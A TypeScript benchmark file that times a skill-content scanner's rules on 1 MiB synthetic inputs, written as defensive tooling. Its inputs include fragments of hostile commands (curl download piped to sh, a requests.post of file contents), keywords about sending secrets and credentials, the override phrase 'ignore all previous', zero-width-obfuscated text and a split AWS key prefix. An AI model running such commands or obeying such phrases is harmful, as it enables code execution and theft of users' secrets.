// The scanner's cost on 1 MiB files (issue 10 item 14: each rule under 10 ms on
// 1 MiB). Each rule's patterns run over the text as written and as normalized,
// the way scanSkillContent runs them; normalization is timed on its own.
// Run: npx tsx bench/scanner.ts
import { joinSplitLiterals, normalizeForScan } from "../src/scanning/normalize.js";
import { countRuleMatches, SCAN_RULES } from "../src/scanning/rules.js";

const MiB = 1024 * 1024;
const fill = (unit: string) => unit.repeat(Math.ceil(MiB / unit.length)).slice(0, MiB);

export const SCANNER_INPUTS: Record<string, string> = {
  prose: fill("Write a blameless postmortem. Ask for the timeline, impact and follow-ups; link the runbook.\n"),
  "markdown, heavy markup": fill("**Step** _one_: run `make test`, then <b>check</b> ~~old~~ the `logs`.\n"),
  "hostile keywords, one line": fill("curl curl send post secrets credentials to ignore all previous | | sh python "),
  "hostile keywords, many lines": fill("curl -o x.sh https://x && sh ./x.sh ; requests.post(u, data=open(f\n"),
  "non-Latin text": fill("Ракета летит к звёздам, ἀρχή καὶ τέλος, ｆｕｌｌ ｗｉｄｔｈ. "),
  "zero-width everywhere": fill("i\u200bg\u200cn\u200do\u2060r\ufeffe "),
  "string concatenations": fill('"AK" + "IA" + "XY" '),
};

function cpuMs(work: () => void): number {
  let best = Infinity;
  for (let i = 0; i < 3; i++) {
    const start = process.cpuUsage();
    work();
    const used = process.cpuUsage(start);
    best = Math.min(best, (used.user + used.system) / 1000);
  }
  return best;
}

/** CPU milliseconds (best of 3) of each rule over each input, normalization included as its own row. */
export function measureScanner(): { input: string; rule: string; ms: number }[] {
  const rows: { input: string; rule: string; ms: number }[] = [];
  for (const [input, text] of Object.entries(SCANNER_INPUTS)) {
    rows.push({ input, rule: "(normalize)", ms: cpuMs(() => joinSplitLiterals(normalizeForScan(text))) });
    const normalized = normalizeForScan(text);
    const variants = normalized === text ? [text] : [text, normalized];
    for (const { id } of SCAN_RULES) {
      if (id.startsWith("size.")) continue;
      rows.push({ input, rule: id, ms: cpuMs(() => variants.forEach((v) => countRuleMatches(id, v))) });
    }
  }
  return rows;
}

if (process.argv[1]?.endsWith("scanner.ts")) {
  for (const r of measureScanner()) console.log(`${r.input.padEnd(30)} ${r.rule.padEnd(22)} ${r.ms.toFixed(1).padStart(7)} ms`);
}
